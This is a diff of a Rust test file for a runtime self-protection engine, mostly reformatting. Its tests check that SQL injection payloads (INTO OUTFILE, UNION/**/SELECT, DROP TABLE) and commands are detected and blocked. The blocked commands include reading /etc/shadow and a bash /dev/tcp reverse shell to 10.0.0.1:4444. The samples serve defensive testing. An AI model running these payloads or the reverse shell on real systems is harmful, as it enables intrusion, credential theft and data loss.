@@ -19,7 +19,9 @@ use rasp_engine::{
 };
 
 fn fixture(name: &str) -> PathBuf {
-    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/eval").join(name)
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/fixtures/eval")
+        .join(name)
 }
 
 fn compiled(dir: &Path) -> Vec<u8> {
@@ -76,10 +78,17 @@ fn explain_sql(e: &Engine, ctx: &RequestContext, dialect: Dialect, sql: &str) ->
     let explanation = e.explain_sql(ctx, &sink);
     // The check and the explanation decide alike.
     let verdict = e.check_sql(ctx, &sink);
-    assert_eq!(verdict.action, explanation.verdict.action, "check and explain on {sql}");
+    assert_eq!(
+        verdict.action, explanation.verdict.action,
+        "check and explain on {sql}"
+    );
     assert_eq!(
         verdict.event.as_ref().map(|e| e.rule_id.clone()),
-        explanation.verdict.event.as_ref().map(|e| e.rule_id.clone())
+        explanation
+            .verdict
+            .event
+            .as_ref()
+            .map(|e| e.rule_id.clone())
     );
     explanation
 }
@@ -94,7 +103,10 @@ fn explain_cmd(e: &Engine, ctx: &RequestContext, argv: &[&str]) -> Explanation {
         command: &command,
     };
     let explanation = e.explain_command(ctx, &sink);
-    assert_eq!(e.check_command(ctx, &sink).action, explanation.verdict.action);
+    assert_eq!(
+        e.check_command(ctx, &sink).action,
+        explanation.verdict.action
+    );
     explanation
 }
 
@@ -158,9 +170,18 @@ fn into_outfile_inside_a_quoted_literal_is_data() {
         assert_eq!(x.verdict.action, Action::Allow);
         // Also inside a comment and a quoted identifier, in every dialect's reading.
         for (dialect, sql) in [
-            (Dialect::PostgreSql, "SELECT \"into outfile\" FROM t WHERE a = 'x y'"),
-            (Dialect::MySql, "SELECT a FROM t WHERE a = 'x y' -- into outfile"),
-            (Dialect::Generic, "SELECT a /* into outfile */ FROM t WHERE a = 'x y'"),
+            (
+                Dialect::PostgreSql,
+                "SELECT \"into outfile\" FROM t WHERE a = 'x y'",
+            ),
+            (
+                Dialect::MySql,
+                "SELECT a FROM t WHERE a = 'x y' -- into outfile",
+            ),
+            (
+                Dialect::Generic,
+                "SELECT a /* into outfile */ FROM t WHERE a = 'x y'",
+            ),
         ] {
             let x = explain_sql(&e, &query(&[("q", "x y")]), dialect, sql);
             assert!(finding(&x, "test.sql.outfile").is_none(), "{sql}");
@@ -178,8 +199,8 @@ fn into_outfile_inside_a_quoted_literal_is_data() {
 fn a_generic_statement_is_read_as_mysql_too_before_calling_a_match_data() {
     for e in engines("") {
         // Standard SQL ends the literal at \' (the clause is code); MySQL reads one literal.
-        let input = r"x\' INTO OUTFILE '/tmp/x";
-        let sql = r"SELECT * FROM t WHERE a = 'x\' INTO OUTFILE '/tmp/x'";
+        let input = r"x\' INTO OUTFILE '/tmp/x' -- ";
+        let sql = r"SELECT * FROM t WHERE a = 'x\' INTO OUTFILE '/tmp/x' -- '";
         let generic = explain_sql(&e, &query(&[("q", input)]), Dialect::Generic, sql);
         assert!(finding(&generic, "test.sql.outfile").is_some());
         let postgres = explain_sql(&e, &query(&[("q", input)]), Dialect::PostgreSql, sql);
@@ -225,7 +246,12 @@ fn always_rules_fire_without_input() {
         assert_eq!(f.confidence, Confidence::High);
         assert_eq!(f.input, None);
         assert_eq!(x.verdict.action, Action::Block);
-        let x = explain_sql(&e, &no_request(), Dialect::MySql, "SELECT version FROM releases");
+        let x = explain_sql(
+            &e,
+            &no_request(),
+            Dialect::MySql,
+            "SELECT version FROM releases",
+        );
         assert_eq!(x.verdict.action, Action::Allow);
         assert!(x.findings.is_empty());
     }
@@ -234,7 +260,12 @@ fn always_rules_fire_without_input() {
 #[test]
 fn a_rule_whose_own_mode_is_off_reports_but_allows() {
     for e in engines("") {
-        let x = explain_sql(&e, &no_request(), Dialect::MySql, "SELECT BENCHMARK(10, MD5('x'))");
+        let x = explain_sql(
+            &e,
+            &no_request(),
+            Dialect::MySql,
+            "SELECT BENCHMARK(10, MD5('x'))",
+        );
         let f = finding(&x, "test.sql.benchmark").expect("reported");
         assert_eq!(f.policy, Policy::Allow);
         assert_eq!(x.verdict.action, Action::Allow);
@@ -250,13 +281,20 @@ fn command_rules_run_outside_requests_and_on_every_sink_they_name() {
         assert_eq!(f.message, "A process or file access touches /etc/shadow");
         assert_eq!(x.verdict.action, Action::Block);
         assert_eq!(
-            explain_cmd(&e, &no_request(), &["cat", "/etc/hosts"]).verdict.action,
+            explain_cmd(&e, &no_request(), &["cat", "/etc/hosts"])
+                .verdict
+                .action,
             Action::Allow
         );
         // The same rule names path sinks too.
         let x = explain_path(&e, &no_request(), "/etc/shadow");
         assert!(finding(&x, "test.cmd.shadow").is_some());
-        assert_eq!(explain_path(&e, &no_request(), "/etc/passwd").verdict.action, Action::Allow);
+        assert_eq!(
+            explain_path(&e, &no_request(), "/etc/passwd")
+                .verdict
+                .action,
+            Action::Allow
+        );
     }
 }
 
@@ -329,7 +367,12 @@ fn a_signature_input_that_reached_the_statement_trimmed_and_respaced_fires_with_
         let f = finding(&x, "test.sig.union").expect("fires");
         assert_eq!(f.confidence, Confidence::Medium);
         // Benign twin: the input went somewhere else.
-        let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, "SELECT a FROM t WHERE id = 1");
+        let x = explain_sql(
+            &e,
+            &query(&[("id", input)]),
+            Dialect::MySql,
+            "SELECT a FROM t WHERE id = 1",
+        );
         assert!(x.findings.is_empty(), "{:?}", ids(&x));
     }
 }
@@ -345,9 +388,18 @@ fn a_signature_in_both_input_and_statement_fires_with_low_confidence() {
         let f = finding(&x, "test.sig.union").expect("fires");
         assert_eq!(f.confidence, Confidence::Low);
         assert_eq!(spanned(sql, f), "UNION/**/SELECT");
-        assert_eq!(x.verdict.action, Action::Block, "the rule's mode decides, not the confidence");
+        assert_eq!(
+            x.verdict.action,
+            Action::Block,
+            "the rule's mode decides, not the confidence"
+        );
         // Benign twins: the statement lacks the signature, or has it only in a literal.
-        let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, "SELECT a FROM t WHERE id = 1");
+        let x = explain_sql(
+            &e,
+            &query(&[("id", input)]),
+            Dialect::MySql,
+            "SELECT a FROM t WHERE id = 1",
+        );
         assert!(x.findings.is_empty());
         let sql = "SELECT a FROM t WHERE note = 'union/**/select' AND id = 1";
         let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
@@ -392,7 +444,11 @@ fn command_signatures_see_trimmed_and_lowercased_input() {
         assert_eq!(f.confidence, Confidence::Medium);
         assert_eq!(x.verdict.action, Action::Block);
         // Benign twin: a plain host.
-        let x = explain_cmd(&e, &query(&[("host", " 127.0.0.1 ")]), &["sh", "-c", "ping -c 1 127.0.0.1"]);
+        let x = explain_cmd(
+            &e,
+            &query(&[("host", " 127.0.0.1 ")]),
+            &["sh", "-c", "ping -c 1 127.0.0.1"],
+        );
         assert!(x.findings.is_empty(), "{:?}", ids(&x));
         // Signatures are per sink kind: the sql rule does not fire for commands.
         let x = explain_cmd(
@@ -412,15 +468,25 @@ fn cached_signature_hits_never_answer_for_another_rule_set() {
         let ctx = query(&[("id", "1; DROP TABLE users")]);
         let sql = "SELECT a FROM t WHERE id = 1; drop table users";
         // The first engine's set fills the context's cache; it has no DROP signature.
-        assert!(explain_sql(&eval, &ctx, Dialect::MySql, sql).findings.is_empty());
+        assert!(explain_sql(&eval, &ctx, Dialect::MySql, sql)
+            .findings
+            .is_empty());
         let x = explain_sql(&other, &ctx, Dialect::MySql, sql);
         let f = finding(&x, "other.sig.drop").expect("the other set's signature fires");
         assert_eq!(f.confidence, Confidence::Medium);
-        assert!(explain_sql(&eval, &ctx, Dialect::MySql, sql).findings.is_empty());
+        assert!(explain_sql(&eval, &ctx, Dialect::MySql, sql)
+            .findings
+            .is_empty());
         // And the other way round, on a fresh context.
         let ctx = query(&[("id", "1; DROP TABLE users")]);
-        assert!(finding(&explain_sql(&other, &ctx, Dialect::MySql, sql), "other.sig.drop").is_some());
-        assert!(explain_sql(&eval, &ctx, Dialect::MySql, sql).findings.is_empty());
+        assert!(finding(
+            &explain_sql(&other, &ctx, Dialect::MySql, sql),
+            "other.sig.drop"
+        )
+        .is_some());
+        assert!(explain_sql(&eval, &ctx, Dialect::MySql, sql)
+            .findings
+            .is_empty());
     }
 }
 
@@ -438,12 +504,23 @@ fn events_name_the_rule_set_and_the_other_rules() {
     let sql = "SELECT SLEEP(1) FROM t WHERE id = 1 INTO OUTFILE '/tmp/x'";
     let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
     let builtin = &x.findings[0];
-    assert!(!builtin.from_rule_file && builtin.rule_id.starts_with("sqli."), "{:?}", ids(&x));
+    assert!(
+        !builtin.from_rule_file && builtin.rule_id.starts_with("sqli."),
+        "{:?}",
+        ids(&x)
+    );
     assert_eq!(builtin.severity, None);
     let event = x.verdict.event.as_ref().expect("event");
-    assert_eq!(event.rule_id, builtin.rule_id, "ties go to the built-in detector");
+    assert_eq!(
+        event.rule_id, builtin.rule_id,
+        "ties go to the built-in detector"
+    );
     assert_eq!(event.rule_set, set_id);
-    assert_eq!(event.other_rules, ["test.sql.outfile", "test.sql.sleep"], "block before monitor");
+    assert_eq!(
+        event.other_rules,
+        ["test.sql.outfile", "test.sql.sleep"],
+        "block before monitor"
+    );
     let json = serde_json::to_value(event.as_ref()).expect("serializes");
     assert_eq!(json["rule_set"], set_id.as_str());
     assert_eq!(json["other_rules"][0], "test.sql.outfile");
@@ -489,7 +566,11 @@ fn repository_rules_tell_a_search_box_from_a_file_write() {
         let input = "1 INTO OUTFILE '/tmp/x'";
         let sql = "SELECT * FROM t WHERE id = 1 INTO OUTFILE '/tmp/x'";
         let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
-        assert!(finding(&x, "sql.policy.file_write").is_some(), "{:?}", ids(&x));
+        assert!(
+            finding(&x, "sql.policy.file_write").is_some(),
+            "{:?}",
+            ids(&x)
+        );
         assert_eq!(x.verdict.action, Action::Block);
     }
 }
@@ -505,7 +586,12 @@ fn repository_signatures_catch_a_lowercased_union() {
         assert_eq!(f.confidence, Confidence::Medium);
         assert_eq!(x.verdict.action, Action::Block);
         let sql = "SELECT * FROM branches WHERE name = 'credit union selection guide'";
-        let x = explain_sql(&e, &query(&[("q", "Credit Union Selection Guide")]), Dialect::MySql, sql);
+        let x = explain_sql(
+            &e,
+            &query(&[("q", "Credit Union Selection Guide")]),
+            Dialect::MySql,
+            sql,
+        );
         assert_eq!(x.verdict.action, Action::Allow, "{:?}", ids(&x));
     }
 }
@@ -514,12 +600,19 @@ fn repository_signatures_catch_a_lowercased_union() {
 fn repository_command_rules_apply_outside_requests() {
     for choice in BACKENDS {
         let e = repo_engine(choice);
-        let x = explain_cmd(&e, &no_request(), &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]);
+        let x = explain_cmd(
+            &e,
+            &no_request(),
+            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
+        );
         assert_eq!(x.verdict.action, Action::Block);
         let event = x.verdict.event.as_ref().expect("event");
         assert!(
             event.rule_id == "cmd.policy.dev_tcp_shell"
-                || event.other_rules.iter().any(|r| r == "cmd.policy.dev_tcp_shell"),
+                || event
+                    .other_rules
+                    .iter()
+                    .any(|r| r == "cmd.policy.dev_tcp_shell"),
             "{:?}",
             ids(&x)
         );
